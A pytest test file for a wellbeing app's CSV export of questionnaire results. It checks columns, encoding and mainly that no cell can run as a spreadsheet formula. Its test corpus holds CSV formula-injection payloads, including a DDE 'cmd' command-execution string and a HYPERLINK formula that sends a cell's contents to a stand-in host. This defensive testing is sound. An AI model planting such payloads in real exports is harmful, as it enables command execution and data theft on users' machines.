"""The CSV of a share: every part once, as it was, and no cell that a spreadsheet runs (I7)."""

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.exchange.shares import DAY
from tests.records.results import LIBRARY
from tests.records.shares import result, share, whole
from wellbeing_app.exchange.csv_rows import BYTE_ORDER_MARK, COLUMNS, csv_bytes, guarded
from wellbeing_app.instruments.engine.methods import LARGEST
from wellbeing_app.instruments.model.values import text_of
from wellbeing_app.records.offers import offered
from wellbeing_app.records.record import Reason
from wellbeing_app.records.share import (
    LONGEST_LINE,
    AnswerPart,
    LinePart,
    NotePart,
    ScorePart,
    Share,
    Source,
    share_of,
)

STARTS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"
GONE = Source("gone/X@1", "en", DAY, {}, None, 0, 1)
WORDS = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=LONGEST_LINE)
FORMULAS = st.builds(
    str.__add__,
    st.sampled_from([*STARTS, *(f"'{one}" for one in STARTS)]),
    st.text("=1+A'\",;\r\n"),
)


def unguarded(cell: str) -> str:
    """The cell as it was before `guarded`, worked out apart from it."""
    quoted = cell.startswith("'") and cell.lstrip("'")[:1] in [*STARTS]
    return cell[1:] if quoted else cell


def rows(data: bytes) -> list[dict[str, str]]:
    """The rows as a program reads them, cells as they were."""
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    lines = list(csv.reader(text, strict=True))
    assert tuple(lines[0]) == COLUMNS
    return [
        dict(zip(COLUMNS, [unguarded(cell) for cell in line], strict=True)) for line in lines[1:]
    ]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula. A number is none."""
    number = re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell, re.ASCII)
    return cell[:1] in [*STARTS] and not number


def test_every_part_is_a_row_in_the_order_of_the_share() -> None:
    made = whole(LIBRARY)
    found = rows(csv_bytes(LIBRARY, made))
    assert [row["kind"] for row in found] == [part.kind for part in made.parts]
    for row, part in zip(found, made.parts, strict=True):
        if isinstance(part, LinePart):
            assert (row["day"], row["words"]) == ("", part.words)
        else:
            source = made.sources[part.source or 0]
            assert (row["questionnaire"], row["day"]) == (source.key, source.day.isoformat())
        if isinstance(part, ScorePart | AnswerPart):
            assert (row["id"], row["value"]) == (part.id, text_of(part.value))


def test_a_row_says_the_question_the_answer_and_the_range_in_words() -> None:
    found = rows(csv_bytes(LIBRARY, share(offered(LIBRARY, [result(LIBRARY, "phq-9")]))))
    score, first = found[0], found[1]
    assert (score["kind"], score["id"], score["value"]) == ("score", "total", "9")
    assert (score["minimum"], score["maximum"]) == ("0", "27")
    assert score["name"] == "Patient Health Questionnaire, depression module"
    assert first["title"].startswith("Over the last 2 weeks")
    assert first["title"].endswith("Little interest or pleasure in doing things")
    assert (first["value"], first["words"]) == ("1", "Several days")


def test_why_there_is_no_answer_has_its_own_column() -> None:
    reasons: tuple[Reason, ...] = ("missing", "hidden", "not applicable")
    parts = [AnswerPart("answer", 0, one, None, one) for one in reasons]
    found = rows(csv_bytes(LIBRARY, share_of([GONE], parts, engine="1", talk="", avoid="")))
    assert [row["unanswered"] for row in found] == [*reasons]
    assert [row["value"] for row in found] == ["", "", ""]


def test_notes_stand_with_their_own_day_and_what_they_are_about() -> None:
    notes = {"": "All.", "evenkeel/PHQ-9@1.0#phq9_2": "Two."}
    made = share(offered(LIBRARY, [result(LIBRARY, "phq-9", notes)]))
    on_all, on_two = sorted(
        (row for row in rows(csv_bytes(LIBRARY, made)) if row["kind"] == "note"),
        key=lambda row: row["words"],
    )
    assert (on_all["questionnaire"], on_all["title"], on_all["words"]) == ("", "", "All.")
    assert (on_two["id"], on_two["day"]) == ("phq9_2", "2026-11-23")
    assert on_two["title"] == "Feeling down, depressed, or hopeless"


def test_what_the_licence_keeps_from_this_site_goes_by_its_ids() -> None:
    made = share(offered(LIBRARY, [result(LIBRARY)]))
    found = rows(csv_bytes(replace(LIBRARY, use="commercial"), made))
    kept_back = [row for row in found if row["questionnaire"] == "evenkeel/WHO-5@1.0"]
    assert kept_back
    for row in kept_back:
        assert (row["name"], row["title"]) == (row["questionnaire"], row["id"])
        assert row["words"] == (row["value"] if row["kind"] == "answer" else "")


def test_the_file_is_utf_8_with_a_mark_and_crlf_lines() -> None:
    data = csv_bytes(LIBRARY, share_of([], [], engine="1", talk="Café, “that”", avoid=""))
    assert data.startswith(BYTE_ORDER_MARK.encode())
    assert data.count(b"\r\n") == data.count(b"\n") == 2
    assert '"Café, “that”"'.encode() in data


def of_words(*words: str) -> Share:
    """A share in which the same words stand wherever a person's words can."""
    parts: list[ScorePart | AnswerPart | NotePart] = []
    for one in words:
        parts.append(AnswerPart("answer", 0, "a", one, None))
        parts.append(NotePart("note", 0, "b", one, DAY))
    return share_of([GONE], parts, engine="1", talk=words[0], avoid=words[-1])


@given(st.lists(WORDS | FORMULAS.map(lambda one: one[:LONGEST_LINE]), min_size=1, max_size=4))
def test_any_words_read_back_as_written_and_none_can_run(words: list[str]) -> None:
    made = of_words(*words)
    data = csv_bytes(LIBRARY, made)
    for row, part in zip(rows(data), made.parts, strict=True):
        told = row["value"] if isinstance(part, AnswerPart) else row["words"]
        assert told == (part.value if isinstance(part, AnswerPart) else part.words)  # type: ignore[union-attr]
    raw = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert [cell for line in raw for cell in line if runs(cell)] == []


@given(st.floats(-LARGEST, LARGEST))
def test_any_number_stays_a_number(value: float) -> None:
    parts = (ScorePart("score", 0, "s", value, value, None),)
    (row,) = rows(csv_bytes(LIBRARY, share_of([GONE], parts, engine="1", talk="", avoid="")))
    assert float(row["value"]) == float(row["minimum"]) == value
    assert row["maximum"] == ""


CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"x")',
    "+39 055 123",
    "--1",
    "-",
]


@pytest.mark.parametrize("cell", CORPUS)
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    """I7."""
    assert guarded(cell) == f"'{cell}"
    assert runs(cell)
    assert not runs(guarded(cell))


@pytest.mark.parametrize("cell", ["", "-1", "-1.5", "0", "-1e-07", "tea", "a=b", "it's", "'tis"])
def test_a_number_or_a_plain_word_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell
    assert not runs(cell)


def test_a_writer_without_the_guard_is_caught(monkeypatch: pytest.MonkeyPatch) -> None:
    """I7, broken: the same test must fail for a writer that forgets the apostrophe."""
    monkeypatch.setattr("wellbeing_app.exchange.csv_rows.guarded", lambda cell: cell)
    data = csv_bytes(LIBRARY, of_words(*CORPUS[:3]))
    raw = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert [cell for line in raw for cell in line if runs(cell)] != []
